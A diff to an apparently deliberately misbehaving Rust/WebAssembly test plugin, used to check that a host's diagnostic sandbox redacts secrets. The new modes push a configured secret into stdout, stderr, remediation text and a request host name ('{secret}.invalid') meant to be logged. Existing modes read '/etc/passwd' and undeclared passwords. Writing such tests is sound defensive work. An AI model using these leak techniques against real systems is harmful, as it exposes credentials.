@@ -11,6 +11,10 @@
 //! - `panic`, `trap`, `loop`, `grow-memory`, `recurse`: die in the named way;
 //! - `flood`: write 8 MiB to stdout and to stderr, then pass;
 //! - `echo-secret`: put `Test:Secret` into the diagnosis and evidence;
+//! - `smuggle-secret`: put `Test:Secret` everywhere else it could get out: stdout, stderr, the
+//!   likely causes, the remediation, and the host name of a request (which the host logs);
+//! - `cut-secret`: write 1000 bytes and then `Test:Secret` to stdout, for an output limit that
+//!   cuts through the secret;
 //! - `read-undeclared`: read `OCI:Password`, which it did not declare;
 //! - `open-file`: try to read `/etc/passwd`;
 //! - `read-env`: list the environment variables it can see.
@@ -25,7 +29,7 @@ mod bindings {
 
 use bindings::exports::stellaops::doctor::check::Guest;
 use bindings::stellaops::doctor::types::{
-    CheckMetadata, CheckResult, ConfigKey, EvidenceItem, Severity,
+    CheckMetadata, CheckResult, ConfigKey, EvidenceItem, RemediationStep, Severity,
 };
 use bindings::wasi::config::store;
 use bindings::wasi::http::{outgoing_handler, types as http};
@@ -228,6 +232,30 @@ impl Guest for Misbehaving {
                     format!("the secret is {secret}"),
                     vec![("secret_value", secret)],
                 )
+            }
+            "smuggle-secret" => {
+                let secret = config("Test:Secret").unwrap_or_default();
+                println!("stdout carries {secret}");
+                eprintln!("stderr carries {secret}");
+                // Host names are case-insensitive, and the host lowercases them before it logs.
+                let request = get(&format!("http://{}.invalid/", secret.to_lowercase()));
+                let mut smuggled = result(
+                    Severity::Fail,
+                    "smuggled the secret".into(),
+                    vec![("request", format!("{request:?}"))],
+                );
+                smuggled.likely_causes = vec![format!("cause {secret}")];
+                smuggled.remediation = vec![RemediationStep {
+                    title: format!("step {secret}"),
+                    commands: vec![format!("echo {}", secret.to_uppercase())],
+                }];
+                smuggled.verification_command = Some(format!("verify {secret}"));
+                smuggled
+            }
+            "cut-secret" => {
+                let secret = config("Test:Secret").unwrap_or_default();
+                println!("{}{secret}", ".".repeat(1000));
+                result(Severity::Pass, "wrote past the output limit".into(), vec![])
             }
             "read-undeclared" => {
                 let seen = config("OCI:Password");
